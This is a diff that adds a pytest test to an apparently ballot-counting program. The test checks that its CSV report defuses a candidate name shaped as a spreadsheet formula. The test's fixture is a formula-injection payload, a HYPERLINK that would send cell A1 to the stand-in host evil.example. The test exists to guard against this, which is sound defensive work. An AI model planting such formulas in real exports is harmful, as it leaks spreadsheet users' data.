@@ -6,7 +6,9 @@ import copy
 import csv
 import dataclasses
 import io
+import json
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -85,3 +87,23 @@ def test_a_stages_figures_read_compare_and_print_as_the_dict_of_their_decimals()
     changed[result.candidates[0]] += Decimal("0.00001")
     assert result.stages[-1].totals != changed
     assert copy.deepcopy(result) == result
+
+
+def test_the_csv_report_writes_a_name_that_looks_like_a_formula_as_text_and_the_box_keeps_it(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    box = {
+        "format": "rankandfile-ballot-box",
+        "version": 1,
+        "method": "irv",
+        "seats": 1,
+        "candidates": [formula, "Ben"],
+        "ballots": [{"ranking": [[formula]], "count": 3}, {"ranking": [["Ben"]], "count": 2}],
+    }
+    path = tmp_path / "box.json"
+    path.write_text(json.dumps(box))
+    result = count(read_file(str(path)), "irv")
+    assert result.elected == (formula,)  # the data file is read back exactly: the recount names the same winner
+    rows = list(csv.DictReader(io.StringIO(render(result, "csv"))))
+    assert {r["candidate"] for r in rows} >= {"'" + formula, "Ben"}
+    assert all(not r[k].startswith("=") for r in rows for k in r)
+    assert json.loads(render(result, "json"))["candidates"][0] == formula  # only the spreadsheet format quotes
